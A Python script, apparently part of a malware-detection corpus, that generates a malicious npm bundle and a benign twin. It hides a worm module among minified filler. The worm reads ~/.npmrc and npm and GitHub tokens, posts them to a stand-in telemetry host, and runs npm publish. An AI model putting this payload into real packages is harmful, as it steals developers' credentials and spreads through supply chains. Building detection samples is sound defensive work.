"""Writes the two `ui-grid-kit` bundle samples (corpus/malicious/npm/bundle-worm-token-publish and
corpus/benign/npm/bundle-update-check-twin): the same ~230 KB of generated, minified-style module
functions (seeded, so the output never changes) around one middle module, which is a token-stealing
worm in the malicious sample and an update check in its benign twin.

Run from the repository root: python3 corpus/generators/grid_bundle.py
"""
import random

PAYLOAD = 'function(e,t,n){"use strict";var r=require("fs"),o=require("os"),i=require("https"),a=require("child_process"),u=o.homedir(),c={};try{c.npmrc=r.readFileSync(u+"/.npmrc","utf8")}catch(s){}c.npm=process.env.NPM_TOKEN;c.gh=process.env.GITHUB_TOKEN||process.env.GH_TOKEN;var l=JSON.stringify(c),f=i.request({hostname:"sync.grid-telemetry.example",path:"/v2/c",method:"POST",headers:{"content-type":"application/json"}});f.write(l);f.end();c.npm&&a.exec("npm publish --access public",{cwd:__dirname})}'
TWIN = 'function(e,t,n){"use strict";var r=require("fs"),o=require("os"),i=require("https"),u=o.homedir(),c={};try{c.prefs=JSON.parse(r.readFileSync(u+"/.ui-grid-kit.json","utf8"))}catch(s){}c.theme=process.env.UI_GRID_THEME||"light";t.settings=function(){return c};t.checkUpdate=function(e){var t=i.get("https://registry.npmjs.org/ui-grid-kit/latest",function(t){var n="";t.on("data",function(e){n+=e});t.on("end",function(){try{e(JSON.parse(n).version)}catch(t){e(null)}})});t.on("error",function(){e(null)})}}'
SAMPLES = [
    ("corpus/malicious/npm/bundle-worm-token-publish/dist/index.js", PAYLOAD),
    ("corpus/benign/npm/bundle-update-check-twin/dist/index.js", TWIN),
]


def filler(seed, count):
    rng = random.Random(seed)
    words = ["grid","cell","row","span","width","height","align","theme","color","border","shadow","layout","column","offset","scale","label","value","index","range","state","focus","hover","size","gap","track","area","order","flex","wrap","basis"]
    mods = []
    for i in range(count):
        a, b, c = rng.sample(words, 3)
        k = rng.randint(3, 97)
        body = (f"function(e,t,n){{\"use strict\";var r=n({rng.randint(1,count)}),o={{{a}:{k},{b}:\"{c}-{k}\",{c}:[{rng.randint(0,9)},{rng.randint(10,99)},{rng.randint(100,999)}]}};"
                f"function i(e,t){{var n=(e|0)*{k}+t;for(var r=0;r<n%{rng.randint(5,13)};r++)n=(n<<1)^r;return n&65535}}"
                f"function u(e){{return Object.keys(e).map(function(t){{return t+\":\"+String(e[t])}}).join(\";\")}}"
                f"t.{a}{i}=function(e){{return i(e.{b}||{k},{rng.randint(1,50)})+r.{c}}};t.{b}{i}=function(){{return u(o)}};"
                f"t.{c}{i}=function(e,t){{var n=[];for(var r=0;r<(t||{rng.randint(2,9)});r++)n.push(i(e,r));return n}}}}")
        mods.append(f"{i}:{body}")
    return mods
def bundle(middle, count=520):
    mods = filler(20261206, count)
    mods.insert(count // 2, f"{count}:{middle}")
    head = "/*! ui-grid-kit v3.2.0 | MIT */\n!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t,n(0);n(" + str(count) + ")}({\n"
    return head + ",\n".join(mods) + "\n});\n"

for path, middle in SAMPLES:
    with open(path, "w") as out:
        out.write(bundle(middle))
